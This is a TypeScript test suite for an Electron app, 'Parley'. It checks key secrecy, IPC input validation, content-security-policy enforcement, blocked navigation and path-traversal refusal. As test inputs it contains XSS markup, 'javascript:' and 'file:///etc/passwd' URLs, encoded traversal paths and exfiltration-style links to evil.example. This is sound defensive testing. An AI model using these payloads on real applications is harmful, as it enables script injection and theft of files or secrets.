import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { AppState } from '../../../src/shared/contract/app-state.ts';
import type { Pipe } from '../../../src/preload/index.ts';
import { startLocalService, type LocalService } from '../../local-service/local-service.ts';
import { launchParley, type Parley } from '../harness/harness.ts';
import { personAt } from '../listen/person.ts';
import { spoken } from '../harness/spoken.ts';
import { everywhere, onlyInStandIn, runsOn } from '../harness/runs-on.ts';

runsOn(everywhere);
const inStandIn = runsOn(
  onlyInStandIn('Electron would open the link in a real browser; the stand-in writes down that it would.'),
);

let service: LocalService;
let parley: Parley;

beforeAll(async () => {
  service = await startLocalService({ seed: 1 });
  parley = await launchParley({
    mic: spoken.time,
    env: { PARLEY_BASE_URL: service.baseUrl, PARLEY_API_KEY: '' },
  });
  await parley.page.evaluate(
    (key) => globalThis.bridge.request('key-save', { key, keep: true }),
    service.key,
  );
  await parley.page.evaluate(() => globalThis.bridge.request('settings-save', { firstStart: 'over' }));
  const person = personAt(parley);
  await parley.page.reload();
  await person.types('What is seven times eight?');
  await person.waitsForEnd();
});

afterAll(async () => {
  await parley?.close();
  await service?.close();
});

declare global {
  var bridge: Pipe;
}

it('keeps the key out of the page, of the log and of the disk', async () => {
  const { page, profileDir, stderr } = parley;
  const inPage = await page.evaluate(async () => {
    const state = await globalThis.bridge.request('app-state', null);
    return (
      JSON.stringify([state, { ...localStorage }, { ...sessionStorage }]) + document.documentElement.outerHTML
    );
  });
  expect(inPage).not.toContain(service.key);
  expect(stderr()).not.toContain(service.key);
  const files = filesIn(profileDir);
  expect(files.length).toBeGreaterThan(0);
  expect(files.filter((file) => readFileSync(file).includes(service.key))).toEqual([]);
});

it('knows the key again after a restart', async () => {
  expect(await parley.page.evaluate(() => globalThis.bridge.request('app-state', null))).toMatchObject({
    value: { key: { state: 'stored' } },
  });
});

it.each([
  ['a request it does not know', 'key-read', null],
  ['a name from the prototype', 'constructor', null],
  ['an input of another shape', 'settings-save', { apiKey: 'sk-1' }],
  ['an address that is no text', 'settings-save', { baseUrl: 7 }],
  ['no input at all', 'key-save', undefined],
])('refuses %s (C30)', async (_what, name, input) => {
  const answer = await parley.page.evaluate(
    ([n, i]) => globalThis.bridge.request(n as string, i),
    [name, input],
  );
  expect(answer).toMatchObject({ ok: false, fault: { kind: 'bad-input' } });
});

it.each([
  'file:///etc/passwd',
  'ftp://service.example',
  'javascript:alert(1)',
  'any text',
  '//service.example',
])('does not keep %s as the service’s address (C30)', async (baseUrl) => {
  const address = () =>
    parley.page.evaluate(async () => {
      const state = await globalThis.bridge.request('app-state', null);
      return (state as { value: AppState }).value.settings.baseUrl;
    });
  const former = await address();
  const answer = await parley.page.evaluate(
    (url) => globalThis.bridge.request('settings-save', { baseUrl: url }),
    baseUrl,
  );
  expect(answer).toMatchObject({ ok: false, fault: { kind: 'wrong-address' } });
  expect(await address()).toBe(former);
});

it('takes from the pill’s page no more than a pill needs (C30)', async () => {
  const { page, overlay } = parley;
  const settings = { baseUrl: 'https://evil.example/v1' };
  const answers = await overlay.evaluate(async (patch) => {
    globalThis.bridge.send('app-quit', null);
    const asked = [
      ['settings-save', patch],
      ['key-forget', null],
      ['takes-list', { limit: 1 }],
      ['screens-list', null],
    ] as const;
    return Promise.all(asked.map(([name, input]) => globalThis.bridge.request(name, input)));
  }, settings);
  expect(answers).toEqual(
    answers.map(() => ({ ok: false, fault: expect.objectContaining({ kind: 'bad-input' }) })),
  );
  expect(await page.evaluate(() => globalThis.bridge.request('app-state', null))).toMatchObject({
    value: { key: { state: 'stored' }, settings: { baseUrl: service.baseUrl } },
  });
});

it('takes no harm from intents that it does not understand (C30)', async () => {
  await parley.page.evaluate(() => {
    globalThis.bridge.send('recording-frames', { recordingId: '../x', pcm: 'no' });
    globalThis.bridge.send('nonsense', null);
  });
  expect(await parley.page.evaluate(() => globalThis.bridge.request('app-state', null))).toMatchObject({
    ok: true,
  });
});

it('runs no script but its own, and speaks to no other server', async () => {
  const { page } = parley;
  const refused = await page.evaluate(async (elsewhere) => {
    const violations: string[] = [];
    addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
    const refusals: string[] = [];
    const attempt = (name: string, write: () => void): void => {
      try {
        write();
      } catch (error) {
        refusals.push(`${name}: ${(error as Error).name}`);
      }
    };
    const inline = document.createElement('script');
    attempt('a script', () => (inline.textContent = 'globalThis.broken = true'));
    inline.append('globalThis.broken = true');
    document.head.append(inline);
    attempt('markup', () => (document.createElement('p').innerHTML = '<img src=x onerror="broken = 1">'));
    attempt('a document', () => void new DOMParser().parseFromString('<b>bold</b>', 'text/html'));
    attempt('another policy', () => void Reflect.get(globalThis, 'trustedTypes').createPolicy('mine', {}));
    const image = new Image();
    image.src = `${elsewhere}/pixel.png`;
    document.body.append(image);
    await fetch(`${elsewhere}/v1/models`).catch(() => {});
    await new Promise((resolve) => setTimeout(resolve, 300));
    const policy = (await fetch('/')).headers.get('content-security-policy');
    return { violations, refusals, policy, broken: 'broken' in globalThis };
  }, service.baseUrl);
  expect(refused.broken).toBe(false);
  expect(refused.policy).toContain("script-src 'self';");
  expect(refused.refusals).toEqual([
    'a script: TypeError',
    'markup: TypeError',
    'a document: TypeError',
    'another policy: TypeError',
  ]);
  expect(refused.violations).toEqual(
    expect.arrayContaining(['require-trusted-types-for', 'img-src', 'connect-src']),
  );
});

/** What a script in the page could try, to show another page or to have one opened. */
const waysOut: readonly (() => void)[] = [
  () => void window.open('https://evil.example/opened'),
  () => void window.open('https://evil.example/named', 'other', 'width=100'),
  () => void window.open('mailto:a@evil.example?attach=/etc/passwd'),
  () => {
    const href = 'https://evil.example/link';
    const link = Object.assign(document.createElement('a'), { href, target: '_blank' });
    document.body.append(link);
    link.click();
    link.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true }));
  },
  () => {
    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/form' });
    document.body.append(form);
    form.submit();
  },
  () => {
    const refresh = document.createElement('meta');
    refresh.httpEquiv = 'refresh';
    refresh.content = '0;url=https://evil.example/refresh';
    document.head.append(refresh);
  },
  () => {
    location.href = 'https://evil.example/left';
  },
];

it.runIf(inStandIn)(
  'opens nothing outside that no person has clicked, and stays on its own page (C06)',
  async () => {
    const { page, stderr } = parley;
    const address = page.url();
    // One after the other: each is refused before the next one begins.
    for (const leaving of waysOut) await page.evaluate(leaving);
    // Whoever clicks afterwards opens what they clicked: by then all else would have been opened.
    await page.evaluate(() => {
      const own = Object.assign(document.createElement('a'), {
        href: 'mailto:a@good.example?subject=Hello&attach=/etc/passwd',
        target: '_blank',
        textContent: 'A link for this test',
      });
      own.style.cssText = 'position: fixed; inset: 0; z-index: 99999';
      document.body.append(own);
    });
    await page.getByText('A link for this test').click();
    await expect.poll(stderr).toContain('would open mailto:a@good.example?subject=Hello in the browser');
    expect(stderr()).not.toContain('evil.example in the browser');
    expect(stderr()).not.toMatch(/would open \S*evil/);
    expect(page.url()).toBe(address);
    await page.reload();
  },
);

it.each(['/index.html', '/overlay.html', 'data:text/html,x'])(
  'gives a frame with %s no way to Parley (C31)',
  async (src) => {
    const found = await parley.page.evaluate(async (address) => {
      const frame = Object.assign(document.createElement('iframe'), { src: address });
      const refused = new Promise<string>((resolve) =>
        addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
          once: true,
        }),
      );
      document.body.append(frame);
      const directive = await refused;
      let reached = false;
      try {
        reached = frame.contentWindow !== null && 'bridge' in frame.contentWindow;
      } catch {
        // What stands there is of another origin: the page itself cannot look into it.
      }
      frame.remove();
      return { directive, reached };
    }, src);
    expect(found).toEqual({ directive: 'frame-src', reached: false });
  },
);

it('has nothing of Node or Electron in its page', async () => {
  const found = await parley.page.evaluate(() =>
    ['require', 'process', 'module', 'Buffer', 'electron'].filter((name) => name in globalThis),
  );
  expect(found).toEqual([]);
});

it('does not serve files from outside its folder (C32)', async () => {
  const statuses = await parley.page.evaluate(async () => {
    const paths = [
      '/..%2f..%2fpackage.json',
      '/%2e%2e/main/index.js',
      '/../main/index.js',
      '/cue/a/b',
      '/none.js',
    ];
    return Promise.all(paths.map(async (path) => (await fetch(path)).status));
  });
  expect(statuses).toEqual([404, 404, 404, 404, 404]);
});

function filesIn(folder: string): readonly string[] {
  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .map((name) => join(folder, name))
    .filter((path) => statSync(path, { throwIfNoEntry: false })?.isFile());
}
